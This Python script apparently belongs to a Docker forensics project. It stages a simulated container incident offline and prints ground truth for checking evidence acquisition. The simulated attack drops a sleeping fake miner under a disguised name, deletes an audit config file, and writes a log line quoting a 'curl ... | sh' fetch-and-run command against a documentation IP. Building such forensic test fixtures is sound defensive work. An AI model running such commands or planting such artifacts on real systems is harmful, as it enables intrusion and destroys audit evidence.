"""Plant the demo's small incident on a running Docker engine, offline, and print its ground truth.

No registry is needed: the base image is busybox-static imported from a
tarball (tests/support/images.py), and the app image on top of it is a real
multi-layer `docker build --network none`.

    <prefix>-web        the "incident": the app runs as uid 1001; an attacker
                        with a shell as that user (a `docker exec`) drops a
                        fake coin miner in /tmp and starts it, deletes a file
                        that came from the image, and the app logs the
                        exploit on stdout and stderr. It keeps running.
    <prefix>-bystander  ran once and exited: a stopped container.

Run again, it reuses the images (build cache) and replaces the containers.
The ground truth (ids, paths, log lines) is read back from the engine, not
assumed, and printed as JSON (or written with --output) for whoever checks
the acquisition against it: demo/run.sh and the Molecule scenario.

    python demo/incident.py --docker-host unix:///var/run/docker.sock [--prefix dfir-demo] [--output FILE]
"""

import argparse
import json
import os
import subprocess
import sys
import time

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO)

from tests.support.dockerd import DOCKER, Dockerd, DockerdError  # noqa: E402
from tests.support.images import build, ensure_base  # noqa: E402

APP_UID = 1001
MINER_PATH = '/tmp/.cache/kdevtmpfsi'
DELETED_PATH = '/app/conf/audit.conf'
ATTACKER_IP = '203.0.113.7'  # TEST-NET-3: documentation only, never routed
STDOUT_MARKER = '"POST /api/v1/upload HTTP/1.1" 200'
STDERR_MARKER = 'upload handler ran a shell command'

SERVE_SH = r'''#!/bin/sh
# The demo web app: logs requests to stdout, warnings to stderr, and keeps running.
trap 'echo "app: stopping" >&2; exit 0' TERM INT
echo "app $(cat /app/VERSION) starting as uid $(id -u), audit config /app/conf/audit.conf" >&2
n=0
while :; do
  n=$((n + 1))
  echo "10.0.0.$((n % 250 + 1)) - - \"GET /health HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.29\""
  sleep 5 & wait $!
done
'''

AUDIT_CONF = b'''# Audit settings of the demo app. The attacker deletes this file.
audit.enabled = true
audit.log = /var/log/app/audit.log
'''

APP_DOCKERFILE = '''FROM {base}
LABEL org.opencontainers.image.title="dfir.docker demo web app"
COPY app/ /app/
RUN chown -R {uid}:{uid} /app && chmod 0755 /app/bin/serve.sh
RUN mkdir -p /var/log/app && chown {uid}:{uid} /var/log/app && echo 1.4.2 > /app/VERSION
USER {uid}:{uid}
WORKDIR /app
CMD ["/app/bin/serve.sh"]
'''

# What the attacker does with a shell as the app user. The miner is fake: it only sleeps.
ATTACK_SH = r'''set -e
mkdir -p "$(dirname {miner})"
cat > {miner} <<'EOF'
#!/bin/sh
# dfir.docker demo: a FAKE coin miner planted by demo/incident.py. It only sleeps.
# pool=stratum+tcp://pool.example.invalid:3333 wallet=DEMO-NOT-A-WALLET
while :; do sleep 60; done
EOF
chmod 0755 {miner}
setsid {miner} </dev/null >/dev/null 2>&1 &
rm -f {deleted}
echo '{ip} - - [demo] {stdout_marker} 17 "-" "curl/7.88.1"' > /proc/1/fd/1
echo 'WARN {stderr_marker}: curl -s http://{ip}/k.sh | sh' > /proc/1/fd/2
'''


class Engine:
    """The docker CLI pointed at an engine that is already running; never started or stopped here."""

    # The test harness's CLI wrapper, borrowed as is: same client, same environment, same errors.
    docker = Dockerd.docker
    inspect = Dockerd.inspect

    def __init__(self, host):
        self.host = host


def app_image_files():
    return {
        'app/bin/serve.sh': SERVE_SH,
        'app/conf/audit.conf': AUDIT_CONF,
        'app/conf/app.conf': b'listen = 0.0.0.0:8080\nuploads = /app/uploads\n',
        'app/uploads/.keep': b'',
    }


def build_images(engine, prefix):
    base = ensure_base(engine, '%s/base:1' % prefix)
    app = build(engine, '%s/app:1' % prefix, APP_DOCKERFILE.format(base=base, uid=APP_UID), app_image_files())
    return base, app


def remove_containers(engine, names):
    for name in names:
        engine.docker('rm', '-f', name, check=False)


def wait_for(what, check, timeout=60):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if check():
            return
        time.sleep(0.5)
    raise DockerdError('the demo incident did not happen as planned: %s after %ss' % (what, timeout))


def container_diff(engine, name):
    """`docker diff` as a set of (kind, path): what the engine sees in the writable layer."""
    changes = set()
    for line in engine.docker('diff', name).splitlines():
        kind, path = line.split(' ', 1)
        changes.add((kind, path))
    return changes


def logs(engine, name):
    """(stdout, stderr) of a container, as the engine returns them."""
    result = subprocess.run([DOCKER, '-H', engine.host, 'logs', name], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, timeout=60, check=True)
    return result.stdout.decode(errors='replace'), result.stderr.decode(errors='replace')


def plant(engine, prefix):
    web, bystander = prefix + '-web', prefix + '-bystander'
    remove_containers(engine, [web, bystander])
    base, app = build_images(engine, prefix)

    engine.docker('run', '--name', bystander, '--network', 'none', '--label', 'dfir.demo=bystander',
                  base, 'sh', '-c', 'echo "nightly report generated"; date -u > /tmp/report.txt')
    engine.docker('run', '-d', '--name', web, '--network', 'none', '--user', '%d:%d' % (APP_UID, APP_UID),
                  '--label', 'dfir.demo=incident', app)
    wait_for('%s logs its first request' % web, lambda: 'GET /health' in logs(engine, web)[0])
    engine.docker('exec', '--user', '%d:%d' % (APP_UID, APP_UID), web, 'sh', '-c', ATTACK_SH.format(
        miner=MINER_PATH, deleted=DELETED_PATH, ip=ATTACKER_IP,
        stdout_marker=STDOUT_MARKER, stderr_marker=STDERR_MARKER))
    wait_for('%s shows the dropped and the deleted file' % web,
             lambda: {('A', MINER_PATH), ('D', DELETED_PATH)} <= container_diff(engine, web))
    wait_for('%s logged the exploit' % web, lambda: STDOUT_MARKER in logs(engine, web)[0]
             and STDERR_MARKER in logs(engine, web)[1])

    web_info, bystander_info = engine.inspect(web), engine.inspect(bystander)
    app_info = engine.inspect(app)
    return {
        'docker_host': engine.host,
        'images': {
            'base': {'tag': base, 'id': engine.inspect(base)['Id']},
            'app': {'tag': app, 'id': app_info['Id'], 'layers': len(app_info['RootFS']['Layers'])},
        },
        'incident': {
            'name': web,
            'id': web_info['Id'],
            'running': web_info['State']['Running'],
            'pid': web_info['State']['Pid'],
            'user': web_info['Config']['User'],
            'dropped': [MINER_PATH],
            'deleted': [DELETED_PATH],
            'stdout_marker': STDOUT_MARKER,
            'stderr_marker': STDERR_MARKER,
        },
        'bystander': {
            'name': bystander,
            'id': bystander_info['Id'],
            'running': bystander_info['State']['Running'],
            'exit_code': bystander_info['State']['ExitCode'],
        },
    }


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.split('\n\n', maxsplit=1)[0])
    parser.add_argument('--docker-host', default='unix:///var/run/docker.sock')
    parser.add_argument('--prefix', default='dfir-demo', help='name prefix of the images and containers')
    parser.add_argument('--output', help='write the ground truth as JSON here (default: stdout)')
    args = parser.parse_args(argv)
    try:
        truth = plant(Engine(args.docker_host), args.prefix)
    except DockerdError as exc:
        print('incident: %s' % exc, file=sys.stderr)
        return 1
    text = json.dumps(truth, indent=2, sort_keys=True) + '\n'
    if args.output:
        with open(args.output, 'w') as handle:
            handle.write(text)
    else:
        sys.stdout.write(text)
    return 0


if __name__ == '__main__':
    sys.exit(main())
